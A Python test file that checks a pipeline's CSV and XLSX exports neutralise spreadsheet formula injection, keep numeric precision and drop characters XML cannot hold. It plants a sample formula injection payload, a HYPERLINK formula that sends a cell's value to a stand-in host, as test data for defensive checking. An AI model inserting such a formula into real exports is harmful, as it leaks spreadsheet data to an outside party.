"""CSV and XLSX exports: text a spreadsheet would run as a formula is neutralised with a
leading quote; numbers keep full precision; no XLSX cell is a formula."""

from __future__ import annotations

import zipfile

import numpy as np
import pandas as pd
from openpyxl import load_workbook

from mrc_pipeline.store import write_export, write_xlsx_export

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A2,"Details")'


def _frame() -> pd.DataFrame:
    # One row per kind of text: a planted formula, the other three trigger characters,
    # a dash inside the text (harmless), plain text, and a missing value.
    return pd.DataFrame({
        "gap_id": ["G1", "G2", "G3", "G4", "G5", "G6", "G7"],
        "description": [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "Long-term plan",
                        "Plain", None],
        "mean": [23 / 11, -0.5, 1.0, np.nan, 2.0, 3.25, 4.0],
        "n": pd.array([11, 2, 1, 0, 5, 4, None], dtype="Int64"),
        "when": pd.to_datetime(["2024-06-01T12:00:00Z"] * 7),
    })


EXPECTED_TEXT = ["'" + HYPERLINK, "'+1+2", "'-2+3", "'@SUM(A1:A9)", "Long-term plan",
                 "Plain", None]


def test_csv_export_neutralises_formulas(tmp_path):
    path = write_export(tmp_path / "gaps.csv", _frame())
    back = pd.read_csv(path, keep_default_na=False, na_values=[""])
    assert back["description"].where(back["description"].notna(), None).tolist() == (
        EXPECTED_TEXT)
    assert back["mean"].iloc[0] == 23 / 11  # full precision survives
    assert back["mean"].iloc[1] == -0.5  # a negative number is a number, left alone


def test_xlsx_export_neutralises_formulas(tmp_path):
    path = write_xlsx_export(tmp_path / "gaps.xlsx", _frame(), "gaps")
    ws = load_workbook(path)["gaps"]
    assert [c.value for c in ws[1]] == ["gap_id", "description", "mean", "n", "when"]
    descriptions = [ws.cell(r, 2) for r in range(2, 9)]
    assert [c.value for c in descriptions] == EXPECTED_TEXT
    assert all(c.data_type == "s" for c in descriptions if c.value is not None)
    assert ws.cell(2, 3).value == 23 / 11
    assert ws.cell(3, 3).value == -0.5 and ws.cell(3, 3).data_type == "n"
    assert ws.cell(5, 3).value is None  # NaN -> empty cell
    assert ws.cell(8, 4).value is None  # <NA> -> empty cell
    assert ws.cell(2, 5).value.isoformat() == "2024-06-01T12:00:00"  # UTC, no zone
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_export_drops_characters_xml_cannot_hold(tmp_path):
    frame = pd.DataFrame({"description": ["bell\x07 and tab\tkept"]})
    ws = load_workbook(write_xlsx_export(tmp_path / "x.xlsx", frame))["data"]
    assert ws.cell(2, 1).value == "bell and tab\tkept"
